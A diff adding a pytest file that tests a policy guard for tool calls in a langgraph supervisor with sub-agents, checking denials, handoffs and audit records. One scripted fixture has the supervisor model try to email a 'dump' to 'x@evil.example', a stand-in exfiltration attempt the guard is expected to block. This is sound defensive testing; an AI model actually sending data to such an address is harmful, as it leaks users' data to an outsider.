@@ -1,0 +1,104 @@
+"""langgraph-supervisor, wired as docs/langgraph.md says: the supervisor's own tools in a guarded
+ToolNode (which create_supervisor rebuilds to add its handoff tools), sub-agents with their own
+guarded tools. Every tool call is decided, the handoffs too, and the supervisor's model calls are
+recorded without adding the callback handler by hand."""
+
+from __future__ import annotations
+
+import asyncio
+import warnings
+from typing import Any
+
+import pytest
+from langchain_core.messages import HumanMessage
+from langgraph.prebuilt import ToolNode
+
+from tether.core import AuditStore, Guard
+from tether.langgraph import Tether
+
+from .conftest import POLICY, CountingModel, calls
+
+supervisor_lib = pytest.importorskip("langgraph_supervisor", reason="needs langgraph-supervisor")
+
+pytestmark = pytest.mark.filterwarnings("ignore::DeprecationWarning")  # create_react_agent moved
+
+THREAD = {"configurable": {"thread_id": "sup-1"}}
+
+
+def policy() -> dict[str, Any]:
+    bot = POLICY["agents"]["support-bot"]
+    supervisor = {**bot, "tools": {**bot["tools"], "transfer_to_researcher": "allow"}}
+    researcher = {**bot, "tools": {"lookup": "allow"}}
+    tools = {**POLICY["tools"], "transfer_to_researcher": {"effects": ["read"]}}
+    return {**POLICY, "tools": tools, "agents": {"supervisor": supervisor, "researcher": researcher}}
+
+
+def supervisor_graph(tether: Tether, tools: list[Any], boss: CountingModel, helper: CountingModel) -> Any:
+    from langgraph.prebuilt import create_react_agent
+
+    lookup, send_email, _ = tools
+    wrap = {"wrap_tool_call": tether.wrap_tool_call, "awrap_tool_call": tether.awrap_tool_call}
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore", DeprecationWarning)  # create_react_agent moved to langchain.agents
+        researcher = create_react_agent(helper, ToolNode([lookup], **wrap), name="researcher")
+    return supervisor_lib.create_supervisor(
+        [researcher], model=boss, tools=ToolNode([send_email], **wrap), supervisor_name="supervisor"
+    ).compile()
+
+
+def scripted() -> tuple[CountingModel, CountingModel]:
+    boss = CountingModel(
+        script=[
+            calls(("send_email", {"to": "x@evil.example", "body": "dump"}, "s1")),
+            calls(("transfer_to_researcher", {}, "s2")),
+        ]
+    )
+    helper = CountingModel(script=[calls(("lookup", {"ticket": "7"}, "r1"))])
+    return boss, helper
+
+
+@pytest.mark.parametrize("run", ["invoke", "ainvoke"])
+def test_the_supervisors_own_tools_and_handoffs_are_decided(store: AuditStore, tools, ran, run: str) -> None:
+    guard = Guard(policy(), store=store)
+    boss, helper = scripted()
+    graph = supervisor_graph(Tether(guard), tools, boss, helper)
+    inputs = {"messages": [HumanMessage("help with ticket 7")]}
+    if run == "invoke":
+        graph.invoke(inputs, THREAD)
+    else:
+        asyncio.run(graph.ainvoke(inputs, THREAD))
+
+    assert ran.count("send_email") == 0  # the supervisor's own tool, behind the rebuilt node
+    assert "Tether denied the call to 'send_email'" in boss.tool_replies()["s1"]
+    assert ran.calls == [("lookup", {"ticket": "7"})]  # the sub-agent ran after the handoff
+    decisions = [(e.agent, e.tool, e.verdict) for e in store.session_events("sup-1") if e.kind == "tool.decision"]
+    assert decisions == [
+        ("supervisor", "send_email", "deny"),
+        ("supervisor", "transfer_to_researcher", "allow"),
+        ("researcher", "lookup", "allow"),
+    ]
+
+
+def test_a_handoff_the_policy_does_not_grant_is_refused(store: AuditStore, tools, ran) -> None:
+    spec = policy()
+    del spec["agents"]["supervisor"]["tools"]["transfer_to_researcher"]
+    boss, helper = scripted()
+    supervisor_graph(Tether(Guard(spec, store=store)), tools, boss, helper).invoke(
+        {"messages": [HumanMessage("x")]}, THREAD
+    )
+    assert helper.seen == [] and ran.calls == []  # the researcher never got the conversation
+    assert "Tether denied the call to 'transfer_to_researcher'" in boss.tool_replies()["s2"]
+
+
+def test_the_supervisors_model_calls_are_recorded_without_the_handler(store: AuditStore, tools, ran) -> None:
+    guard = Guard(policy(), store=store)
+    boss, helper = scripted()
+    supervisor_graph(Tether(guard), tools, boss, helper).invoke({"messages": [HumanMessage("ticket 7")]}, THREAD)
+    events = store.session_events("sup-1")
+    by_id = {e.event_id: e for e in events}
+    requests = [e for e in events if e.kind == "model.request"]
+    assert {e.agent for e in requests} == {"supervisor", "researcher"}
+    assert len([e for e in requests if e.agent == "supervisor"]) == len(boss.seen) == 3
+    for decision in (e for e in events if e.kind == "tool.decision"):
+        proposed = by_id[decision.parent_id]  # each decision links to the response that proposed it
+        assert proposed.kind == "model.response" and proposed.agent == decision.agent
